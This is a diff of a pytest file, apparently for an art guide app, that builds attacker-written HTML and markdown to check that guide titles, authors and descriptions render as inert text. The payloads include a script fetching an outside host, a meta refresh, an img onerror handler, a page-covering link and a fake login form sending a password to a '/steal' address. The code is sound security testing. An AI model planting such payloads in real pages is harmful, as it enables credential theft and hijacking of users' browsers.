@@ -33,18 +33,22 @@ needs_chromium = pytest.mark.skipif(
 )
 
 
-def hostile(outside: str, marker: str) -> str:
-    """A text written by an attacker; ``outside`` is an address the page must never contact."""
-    return (
+def hostile(outside: str, marker: str, short: bool = False) -> str:
+    """A text written by an attacker; ``outside`` is an address the page must never contact.
+    ``short``: within a title's length limit (500 characters): the page-covering link and the
+    form are left to the long texts."""
+    head = (
         f'{marker} <meta http-equiv="refresh" content="0;url={outside}/refresh">'
         f"<script>document.title='pwned';fetch('{outside}/script')</script>"
         f'<img src="{outside}/img-tag.png" onerror="document.title=\'pwned\'">'
         f"\n\n![remote]({outside}/markdown-image.png) [click here]({outside}/link) {outside}/bare"
+    )
+    tail = (
         f'\n\n<a href="{outside}/cover" style="position:fixed;top:0;left:0;width:100vw;height:100vh;'
         f'z-index:99999;background:red">covered</a>'
         f'<form action="{outside}/steal"><input type="password" name="p"><button>Log in</button></form>'
-        " :red[coloured] $x^2$ **bold**"
     )
+    return head + ("" if short else tail) + " :red[coloured] $x^2$ **bold**"
 
 
 def test_markdown_and_html_escaping_leave_no_markup():
@@ -87,10 +91,10 @@ def test_hostile_guide_texts_render_as_text_in_chromium(demo_guide, tmp_path):
 
     guide = copy.deepcopy(demo_guide.guide)
     guide.name = "hostile"
-    guide.title = {"en": hostile(outside, "GUIDE-TITLE")}
+    guide.title = {"en": hostile(outside, "GUIDE-TITLE", short=True)}
     for art in guide.artworks:
-        art.title = {"en": hostile(outside, f"TITLE-{art.id}")}
-        art.author = {"en": hostile(outside, "AUTHOR")}
+        art.title = {"en": hostile(outside, f"TITLE-{art.id}", short=True)}
+        art.author = {"en": hostile(outside, "AUTHOR", short=True)}
         art.description = {"en": hostile(outside, "DESCRIPTION")}
         for d in art.details:
             d.name = {"en": f"<b>{d.id}</b> ![i]({outside}/chip.png)"}
